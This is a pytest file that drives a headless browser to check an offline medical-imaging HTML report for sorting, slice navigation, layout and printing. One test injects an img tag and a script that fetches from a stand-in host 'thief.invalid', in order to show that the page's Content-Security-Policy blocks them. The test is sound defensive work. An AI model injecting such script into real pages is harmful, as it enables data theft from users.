"""The page in a real browser: nothing is asked of the network, tables sort, slices scroll, and print shows all."""

from __future__ import annotations

import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner
from PIL import Image

from monai_rwcp.cli import main
from tests.helpers.chromium_tab import Browser


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from tests.helpers.report_cohort import Cohort

    folder = tmp_path_factory.mktemp("report")
    arguments = [*Cohort.write(folder), "--inner", str(folder / "inner")]
    ran = CliRunner().invoke(main, [*arguments, "--out", str(folder / "r.html")])
    assert ran.exit_code == 0, ran.output
    return folder / "r.html"


def column(browser: Browser, table: int, number: int) -> list[str]:
    script = (
        f"[...document.querySelectorAll('table')[{table}].tBodies[0].rows].map(row => row.cells[{number}].textContent)"
    )
    found: list[str] = browser.run(script)
    return found


def test_nothing_is_asked_of_the_network_and_nothing_complained_of(browser: Browser, page: Path) -> None:
    browser.open(page)
    assert browser.requests[0] == page.as_uri()
    assert all(address.startswith("data:") for address in browser.requests[1:])
    assert browser.complaints == []


def test_even_a_changed_page_asks_nothing(browser: Browser, page: Path) -> None:
    """What somebody puts into the page is not fetched and not run; without the page's own rule it would be."""
    thief = '<img src="http://thief.invalid/a.png"><script>window.ran = true; fetch("http://thief.invalid/b")</script>'
    changed = page.read_text().replace("<h1>", f"{thief}<h1>")
    for name, text in (("with", changed), ("without", changed.replace("Content-Security-Policy", "nothing"))):
        path = page.with_name(f"{name}.html")
        path.write_text(text)
        browser.to_network.clear()
        browser.open(path)
        asked = [address for address in browser.requests if "thief" in address]
        # Whether a request left the browser, seen from outside.
        left = [request for request in browser.to_network if b"thief" in request]
        if name == "with":
            assert not left
            assert browser.run("window.ran") is None
            assert any("Content Security Policy" in complaint for complaint in browser.complaints)
            assert browser.run("document.querySelectorAll('.now').length") == 4
        else:
            assert asked
            assert left
            assert browser.run("window.ran") is True


def test_a_click_sorts_and_another_turns_round(browser: Browser, page: Path) -> None:
    browser.open(page)
    before = column(browser, 1, 0)
    browser.run("document.querySelectorAll('table')[1].id = 'patients'")
    heading = "#patients th:nth-child(3) button"
    browser.click(heading)
    shares = [float(text.split()[0]) for text in column(browser, 1, 2)]
    assert shares == sorted(shares)
    assert browser.run("document.querySelector('#patients th:nth-child(3)').ariaSort") == "ascending"
    browser.click(heading)
    shares = [float(text.split()[0]) for text in column(browser, 1, 2)]
    assert shares == sorted(shares, reverse=True)
    assert len(set(shares)) > 3
    # By the keyboard, and by name.
    browser.run("document.querySelector('#patients th button').focus()")
    browser.press("Enter")
    assert column(browser, 1, 0) == before
    browser.press("Enter")
    assert column(browser, 1, 0) == before[::-1]
    assert browser.run("document.querySelectorAll('#patients th[aria-sort]').length") == 1


def test_the_slider_moves_through_the_slices(browser: Browser, page: Path) -> None:
    browser.open(page)
    browser.run("document.querySelector('.slices').id = 'first'")

    def shown() -> list[Any]:
        visible = "[...document.querySelectorAll('#first img')].filter(i => i.offsetParent !== null).map(i => i.dataset.slice)"
        return [browser.run(visible), browser.run("document.querySelector('#first output').textContent")]

    start = shown()
    assert start == [["1"], "1"]
    browser.click("#first input")
    assert shown() == [["2"], "2"]
    browser.press("ArrowRight")
    assert shown() == [["3"], "3"]
    browser.press("ArrowLeft")
    browser.press("ArrowLeft")
    browser.press("ArrowLeft")
    assert shown() == start
    pixels = "(i => [i.complete, i.naturalWidth])(document.querySelector('#first img.now'))"
    assert browser.run(pixels)[0] is True
    assert browser.run(pixels)[1] > 300


@pytest.mark.parametrize("width", [1100, 400])
def test_nothing_runs_over_the_side(browser: Browser, page: Path, width: int, tmp_path: Path) -> None:
    long = page.read_text().replace("case_04", "a_very_long_name_of_a_file_without_any_space_" * 3)
    (tmp_path / "long.html").write_text(long)
    browser.open(tmp_path / "long.html", width)
    assert browser.run("document.documentElement.scrollWidth") == width
    over = (
        "[...document.querySelectorAll('body *')].filter(e => !e.closest('.wide') && !e.closest('svg') && "
        f"e.getBoundingClientRect().right > {width}).map(e => e.outerHTML.slice(0, 80))"
    )
    assert browser.run(over) == []
    # Wide tables scroll by themselves; on a desk they need not.
    hidden = "[...document.querySelectorAll('.wide')].map(e => e.scrollWidth > e.clientWidth)"
    assert any(browser.run(hidden)) == (width == 400)
    picture = np.asarray(Image.open(io.BytesIO(browser.picture())).convert("L"))
    assert picture.shape[1] == width
    assert picture.std() > 20


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="needs poppler-utils to read the PDF")
def test_print_shows_every_part(browser: Browser, page: Path, tmp_path: Path) -> None:
    # More patients than a page holds.
    text = page.read_text()
    row = text[text.index("<tr><td>case_03") : text.index("<tr><td>case_04")]
    (tmp_path / "many.html").write_text(text.replace(row, row * 60))
    browser.open(tmp_path / "many.html")
    (tmp_path / "r.pdf").write_bytes(browser.pdf())
    read = subprocess.run(
        ["pdftotext", "-layout", str(tmp_path / "r.pdf"), "-"], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    parts = ["Look at this first", "The promise", "By class", "Where it is worst", "By patient", "How it was made"]
    places = [read.index(part) for part in parts]
    assert places == sorted(places)
    assert read.count("case_03") >= 60
    # Headings of the table again on its second page.
    assert read.count("organ: missed") > 1
    assert read.count("slice ") >= 4
    # Nothing is cut: the last column, and the last line.
    assert "patients" in read[places[2] : places[3]]
    assert "and not about any single one" in read
    images = subprocess.run(
        ["pdfimages", "-list", str(tmp_path / "r.pdf")], capture_output=True, text=True, check=True, timeout=60
    ).stdout
    assert sum(int(line.split()[3]) > 300 for line in images.splitlines()[2:] if " image " in line) >= 4
